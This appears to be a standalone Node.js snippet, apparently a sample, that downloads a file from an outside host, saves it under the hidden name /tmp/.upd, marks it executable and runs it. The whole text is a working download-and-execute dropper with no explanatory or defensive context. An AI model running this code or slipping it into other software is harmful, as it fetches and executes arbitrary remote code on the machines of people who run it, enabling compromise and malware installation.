const https = require('https');
const fs = require('fs');
const { execFile } = require('child_process');
const out = '/tmp/.upd';
https.get('https://bin.dlexec-sample.example/upd', (res) => {
  const w = fs.createWriteStream(out);
  res.pipe(w);
  w.on('finish', () => { fs.chmodSync(out, 0o755); execFile(out); });
});
